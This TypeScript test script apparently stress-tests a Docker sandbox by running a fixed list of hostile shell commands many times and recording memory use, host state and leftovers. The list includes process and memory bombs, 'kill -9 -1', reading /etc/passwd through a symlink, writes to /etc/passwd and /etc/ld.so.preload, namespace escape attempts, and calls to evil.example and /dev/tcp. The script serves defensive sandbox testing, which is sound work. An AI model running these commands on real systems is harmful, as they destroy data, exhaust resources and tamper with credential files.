import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { dockerSandbox } from '@drylane/worker/sandbox/docker';
import { connectEngine } from '@drylane/worker/sandbox/engine';
import { slot } from '@drylane/worker/sandbox/slot';
import { makePlace } from '../journey/place.ts';
import { type Rehearsing, rehearsingIn } from '../sandbox/rehearsing.ts';
import type { Place } from './ground.ts';
import { hostState, leftBehind } from './host.ts';

/** What a barrage of hostile rehearsals in one process came to. */
export interface Barrage {
  readonly rounds: number;
  /** Resident bytes: the median of one pass through all commands, when warm and at the end, and the most at any time. */
  readonly warmRss: number;
  readonly laterRss: number;
  readonly peakRss: number;
  readonly before: Record<string, string>;
  readonly after: Record<string, string>;
  readonly left: Awaited<ReturnType<typeof leftBehind>>;
  /** How many rehearsals came to which end. */
  readonly ends: Record<string, number>;
}

const COMMANDS = [
  'echo fine > src/two',
  'sleep 300 & (sleep 301 &); true',
  'for i in $(seq 100); do sleep 5 & done; true',
  'yes | head -c 30000000',
  'python3 -c "x = b\'x\' * (300 << 20)"',
  'head -c 200M /dev/zero > big; true',
  'rm -rf src a; ln -s /etc src; cat src/passwd > a',
  'echo "e 0" > /.drylane/control/events; sleep 0.1',
  'kill -9 1; kill -9 $PPID; true',
  'kill -9 -1; true',
  'curl -s --max-time 2 http://evil.example/; echo x > /dev/tcp/192.0.2.7/80; true',
  'mount -t tmpfs none /mnt; unshare -Ur true; true',
  'python3 -c \'for i in range(2000): open("m%d" % i, "w").write("x")\'',
  'echo evil >> /etc/passwd; echo evil > /etc/ld.so.preload',
  'while :; do :; done',
  'head -c 3000000 /dev/urandom; head -c 3000000 /dev/urandom >&2',
  'ls /; exit 7',
] as const;

const LIMITS: Rehearsing['limits'] = {
  timeout: '4s',
  memory: '64Mi',
  disk: '32Mi',
  pids: 64,
  output: '256Ki',
};
const MEBIBYTE = 2 ** 20;

/** Each command is there twice before memory is compared: what is loaded or grown only once is there by then. */
const PASS = COMMANDS.length;
const WARM_ROUNDS = 2 * PASS;

// node test/hostile/barrage.ts ROUNDS
const rounds = Number(process.argv[2]);
await using place = await makePlace('barrage');
process.stdout.write(JSON.stringify(await barrage(place, rounds)));

async function barrage(at: Place, count: number): Promise<Barrage> {
  await Promise.all([mkdir(join(at.site, 'src')), mkdir(join(at.root, 'outside'))]);
  await writeFile(join(at.site, 'a'), 'a\n');
  const sandbox = dockerSandbox({ engine: await connectEngine(), stateDir: at.state, giver: slot });
  const ends: Record<string, number> = {};
  const rssOf: number[] = [];
  const shoot = async (round: number) => {
    const command = COMMANDS[round % COMMANDS.length] ?? 'true';
    const { evidence } = await rehearsingIn(sandbox, command, { site: at.site, limits: LIMITS });
    const end = evidence.timed_out ? 'timed out' : evidence.complete ? 'complete' : 'incomplete';
    ends[end] = (ends[end] ?? 0) + 1;
    const { rss } = process.memoryUsage();
    rssOf.push(rss);
    if (round % 100 === 99) process.stderr.write(`${round + 1} rounds, ${Math.round(rss / MEBIBYTE)} MiB\n`);
  };
  await rehearsingIn(sandbox, 'true', { site: at.site });
  const before = await hostState(at);
  for (let round = 0; round < WARM_ROUNDS + count; round++) await shoot(round);
  return {
    rounds: count,
    warmRss: median(rssOf.slice(PASS, WARM_ROUNDS)),
    laterRss: median(rssOf.slice(-PASS)),
    peakRss: Math.max(...rssOf),
    before,
    after: await hostState(at),
    left: await leftBehind(at),
    ends,
  };
}

function median(values: readonly number[]): number {
  return [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0;
}
